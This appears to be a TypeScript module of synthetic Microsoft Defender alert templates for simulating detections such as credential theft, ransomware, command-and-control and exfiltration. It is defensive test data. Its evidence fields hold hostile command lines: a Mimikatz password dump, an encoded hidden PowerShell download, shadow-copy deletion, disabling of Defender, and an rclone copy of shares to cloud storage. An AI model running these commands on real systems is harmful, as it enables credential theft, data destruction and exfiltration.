import type { Evidence, EvidenceContext } from "./evidence.ts";
import { fileEvidence, ipEvidence, processEvidence, registryKeyEvidence, urlEvidence } from "./evidence.ts";

/** A kind of alert: what is the same each time it arrives; device and user evidence are added to each. */
export interface AlertTemplate {
  title: string;
  description: string;
  severity: string;
  category: string;
  mitreTechniques: string[];
  detectionSource: string;
  serviceSource?: string;
  threatFamilyName?: string;
  threatDisplayName?: string;
  evidence: (context: EvidenceContext) => Evidence[];
}

const powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0";
const temp = "C:\\Users\\Public\\Downloads";

const credentialTheft: AlertTemplate = {
  title: "Mimikatz credential theft tool",
  description:
    "The Mimikatz credential theft tool was found on this device. Attackers use it to read passwords and hashes from the memory of the Local Security Authority and reuse them to move to other devices.",
  severity: "high",
  category: "CredentialAccess",
  mitreTechniques: ["T1003.001", "T1550.002"],
  detectionSource: "microsoftDefenderForEndpoint",
  threatFamilyName: "Mimikatz",
  threatDisplayName: "HackTool:Win32/Mimikatz!pz",
  evidence: (context) => [
    fileEvidence(context, { name: "mk64.exe", path: temp }),
    processEvidence(context, {
      image: "mk64.exe",
      path: temp,
      commandLine: '"mk64.exe" privilege::debug sekurlsa::logonpasswords exit',
      parent: "cmd.exe",
      verdict: "malicious",
      remediation: "blocked",
    }),
  ],
};

const suspiciousPowerShell: AlertTemplate = {
  title: "Suspicious PowerShell command line",
  description:
    "A suspicious PowerShell activity was observed on the device. The command was encoded and fetched content from the internet, which is unusual for this user.",
  severity: "medium",
  category: "Execution",
  mitreTechniques: ["T1059.001", "T1027"],
  detectionSource: "microsoftDefenderForEndpoint",
  evidence: (context) => [
    processEvidence(context, {
      image: "powershell.exe",
      path: powershell,
      commandLine: "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
      parent: "winword.exe",
    }),
    urlEvidence(context, "http://cdn.invoice-portal.example/a.ps1"),
    ipEvidence(context, "198.51.100.77", "NL"),
  ],
};

const ransomware: AlertTemplate = {
  title: "Ransomware behavior detected in the file system",
  description:
    "A process renamed and rewrote many files in a short time and deleted volume shadow copies. This is how ransomware prepares to ask for money.",
  severity: "high",
  category: "Ransomware",
  mitreTechniques: ["T1486", "T1490"],
  detectionSource: "microsoftDefenderForEndpoint",
  threatFamilyName: "LockBit",
  evidence: (context) => [
    fileEvidence(context, { name: "update-helper.exe", path: "C:\\ProgramData", remediation: "active" }),
    processEvidence(context, {
      image: "vssadmin.exe",
      path: "C:\\Windows\\System32",
      commandLine: "vssadmin.exe delete shadows /all /quiet",
      parent: "update-helper.exe",
      verdict: "malicious",
      remediation: "active",
    }),
  ],
};

const eicar: AlertTemplate = {
  title: "'EICAR_Test_File' malware was prevented",
  description:
    "Malware and unwanted software are undesirable applications. The EICAR test file is harmless and is used to check that antivirus works.",
  severity: "informational",
  category: "Malware",
  mitreTechniques: [],
  detectionSource: "antivirus",
  threatFamilyName: "EICAR_Test_File",
  threatDisplayName: "Virus:DOS/EICAR_Test_File",
  evidence: (context) => [fileEvidence(context, { name: "eicar.com", path: temp })],
};

const commandAndControl: AlertTemplate = {
  title: "Connection to a known command-and-control server",
  description:
    "A process on this device made regular connections to an address that is known to be used for command and control. The interval suggests an automated beacon.",
  severity: "high",
  category: "CommandAndControl",
  mitreTechniques: ["T1071.001", "T1573"],
  detectionSource: "microsoftDefenderForEndpoint",
  evidence: (context) => [
    processEvidence(context, {
      image: "rundll32.exe",
      path: "C:\\Windows\\System32",
      commandLine: "rundll32.exe C:\\ProgramData\\ms\\sync.dll,Start",
      parent: "explorer.exe",
      remediation: "unremediated",
    }),
    ipEvidence(context, "203.0.113.199", "RU"),
    urlEvidence(context, "https://telemetry-sync.example/beacon", "active"),
  ],
};

const phishingClick: AlertTemplate = {
  title: "A user clicked through to a potentially malicious URL",
  description: "A user opened a link in a message that was later found to lead to a page that asks for passwords.",
  severity: "medium",
  category: "InitialAccess",
  mitreTechniques: ["T1566.002"],
  detectionSource: "microsoftDefenderForEndpoint",
  evidence: (context) => [
    urlEvidence(context, "https://login.contos0-payroll.example/session?id=8812"),
    ipEvidence(context, "192.0.2.41", "US"),
  ],
};

const persistence: AlertTemplate = {
  title: "Anomaly detected in ASEP registry",
  description: "A program was added to a registry key that Windows runs at each sign-in, under a misleading name.",
  severity: "medium",
  category: "Persistence",
  mitreTechniques: ["T1547.001"],
  detectionSource: "microsoftDefenderForEndpoint",
  evidence: (context) => [
    registryKeyEvidence(context, "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"),
    fileEvidence(context, { name: "onedrive-sync.exe", path: "C:\\ProgramData", verdict: "suspicious" }),
  ],
};

const lateralMovement: AlertTemplate = {
  title: "Suspicious remote activity with PsExec",
  description: "A remote service was created on this device with a tool that administrators and attackers both use.",
  severity: "medium",
  category: "LateralMovement",
  mitreTechniques: ["T1569.002", "T1021.002"],
  detectionSource: "microsoftDefenderForEndpoint",
  evidence: (context) => [
    processEvidence(context, {
      image: "PSEXESVC.exe",
      path: "C:\\Windows",
      commandLine: "PSEXESVC.exe",
      parent: "services.exe",
    }),
    ipEvidence(context, "10.20.0.22", null),
  ],
};

const defenseEvasion: AlertTemplate = {
  title: "Attempt to turn off Microsoft Defender Antivirus protection",
  description: "An attempt was made to switch off real-time protection. Tamper protection kept it on.",
  severity: "low",
  category: "DefenseEvasion",
  mitreTechniques: ["T1562.001"],
  detectionSource: "microsoftDefenderForEndpoint",
  evidence: (context) => [
    processEvidence(context, {
      image: "powershell.exe",
      path: powershell,
      commandLine: "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true",
      parent: "cmd.exe",
      remediation: "blocked",
    }),
  ],
};

const exfiltration: AlertTemplate = {
  title: "Unusual volume of data sent to a cloud storage service",
  description: "A process sent much more data to an outside storage service than this device ever has.",
  severity: "low",
  category: "Exfiltration",
  mitreTechniques: ["T1567.002"],
  detectionSource: "microsoftDefenderForEndpoint",
  evidence: (context) => [
    processEvidence(context, {
      image: "rclone.exe",
      path: temp,
      commandLine: "rclone.exe copy D:\\Shares mega:backup --transfers 16",
      parent: "cmd.exe",
    }),
    ipEvidence(context, "198.51.100.9", "LU"),
  ],
};

const unwantedSoftware: AlertTemplate = {
  title: "'Softcnapp' unwanted software was prevented",
  description: "Unwanted software was found in a download and removed before it ran.",
  severity: "low",
  category: "UnwantedSoftware",
  mitreTechniques: [],
  detectionSource: "antivirus",
  threatFamilyName: "Softcnapp",
  threatDisplayName: "PUA:Win32/Softcnapp",
  evidence: (context) => [
    fileEvidence(context, { name: "pdf-converter-setup.exe", path: temp, remediation: "remediated" }),
  ],
};

const discovery: AlertTemplate = {
  title: "Suspicious sequence of exploration activities",
  description: "A sequence of commands was run to list users, groups, shares and domain controllers.",
  severity: "low",
  category: "Discovery",
  mitreTechniques: ["T1087", "T1482", "T1135"],
  detectionSource: "microsoftDefenderForEndpoint",
  evidence: (context) => [
    processEvidence(context, {
      image: "net.exe",
      path: "C:\\Windows\\System32",
      commandLine: 'net group "Domain Admins" /domain',
      parent: "cmd.exe",
    }),
  ],
};

/** Realistic alerts by name; storms and scripts go through them in this order. */
export const realisticTemplates = {
  suspiciousPowerShell,
  credentialTheft,
  eicar,
  ransomware,
  phishingClick,
  commandAndControl,
  persistence,
  defenseEvasion,
  lateralMovement,
  unwantedSoftware,
  exfiltration,
  discovery,
} satisfies Record<string, AlertTemplate>;
